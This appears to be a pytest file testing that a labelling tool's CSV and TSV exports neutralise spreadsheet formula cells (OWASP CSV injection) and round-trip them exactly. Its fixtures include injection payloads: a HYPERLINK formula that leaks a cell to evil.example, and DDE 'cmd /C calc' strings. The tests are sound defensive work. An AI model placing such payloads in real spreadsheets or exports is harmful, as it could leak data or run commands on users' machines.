"""Issue 36 item 1: no CSV the tool writes for people holds a cell a spreadsheet runs as a formula
(OWASP: a leading ``'``), and reading such a file back gives the original text exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ndcg_labeling.io.tables import read_table
from ndcg_labeling.io.tasks_files import write_tasks
from ndcg_labeling.spreadsheet import neutralise, restore
from tests.conftest import invoke
from tests.web.conftest import build_workspace

# The first characters OWASP lists (https://owasp.org/www-community/attacks/CSV_Injection), written here
# independently of the module's own tuple.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
TRICKY = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already marked", "''", "'", "'plain", "plain",
          "", "a=b", " =leading space"]


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return [c for row in rows[1:] for c in row]


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_round_trip_and_no_formula_for_any_text(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(DANGEROUS)


def test_tasks_export_csv_neutralises_and_round_trips(runner, sqlite_db, tmp_path):
    texts = {"query": TRICKY[3], "title": TRICKY[0], "body": TRICKY[1] + "\nsecond line"}
    ws = build_workspace(sqlite_db, tmp_path, texts=texts)
    out = tmp_path / "ann.csv"
    result = invoke(runner, sqlite_db, "tasks", "export", "b1", "--grader", "ann", "--out", str(out))
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text())
    assert cells and not [c for c in cells if c.startswith(DANGEROUS)]
    assert f"'{texts['title']}" in cells
    frame = read_table(out).frame
    assert set(frame["query"]) == {texts["query"]} and set(frame["title"]) == {texts["title"]}
    assert set(frame["body"]) == {texts["body"]}
    # the grader fills in grades and the file goes back in unchanged otherwise
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    for row in rows:
        row["grade"] = "2"
    filled = tmp_path / "filled.csv"
    with open(filled, "w", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    result = invoke(runner, sqlite_db, "tasks", "import", str(filled), "--grader", "ann")
    assert result.exit_code == 0, result.output
    assert len(ws.judgments()) == len(rows)


def test_write_tasks_round_trips_every_tricky_text(tmp_path):
    rows = [{"item_id": f"i{k}", "query": t, "title": t, "body": t, "url": t, "grade": ""} for k, t in enumerate(TRICKY)]
    path = tmp_path / "t.csv"
    write_tasks(rows, path)
    assert not [c for c in _cells(path.read_bytes().decode()) if c.startswith(DANGEROUS)]
    back = read_table(path, trim=()).frame  # free text columns: verbatim
    for column in ("query", "title", "body", "url"):
        assert back[column].tolist() == TRICKY, column


def test_format_csv_tables_are_neutralised(runner, sqlite_db, tmp_path):
    path = tmp_path / "graders.jsonl"
    path.write_text("\n".join(json.dumps({"grader": f"g{k}", "display_name": t}) for k, t in enumerate(TRICKY[:4])) + "\n")
    assert invoke(runner, sqlite_db, "import", "graders", str(path)).exit_code == 0
    result = invoke(runner, sqlite_db, "graders", "list", "--format", "csv")
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    shown = {row["grader"]: row["display_name"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert {g: restore(d) for g, d in shown.items()} == {f"g{k}": t for k, t in enumerate(TRICKY[:4])}


@pytest.mark.parametrize("kind", ["csv", "tsv"])
def test_a_marked_cell_imports_as_its_text(runner, sqlite_db, tmp_path, kind):
    sep = "," if kind == "csv" else "\t"
    path = tmp_path / f"q.{kind}"
    path.write_text(sep.join(["query_id", "text", "query_type"]) + "\n" + sep.join(["q1", "'=1+1", "nav"]) + "\n")
    assert invoke(runner, sqlite_db, "import", "queries", str(path)).exit_code == 0
    with sqlite_db.engine.connect() as conn:
        from sqlalchemy import text

        assert conn.execute(text("SELECT text FROM queries")).scalar_one() == "=1+1"


def test_report_csv_neutralises_text_and_keeps_numbers():
    from types import SimpleNamespace

    import pandas as pd

    from ndcg_labeling.reports.text import PER_QUERY_COLUMNS, render_csv

    frame = pd.DataFrame([{"system": "=evil()", "query_id": "-q1", "query_type": "@x", "metric": "ndcg@10",
                           "value": -0.25}], columns=list(PER_QUERY_COLUMNS))
    result = SimpleNamespace(options=SimpleNamespace(per_query=True, by=None), per_query=frame, summary=frame)
    rows = list(csv.DictReader(io.StringIO(render_csv(result))))
    assert rows[0]["system"] == "'=evil()" and rows[0]["query_id"] == "'-q1" and rows[0]["query_type"] == "'@x"
    assert float(rows[0]["value"]) == -0.25  # a number stays a number
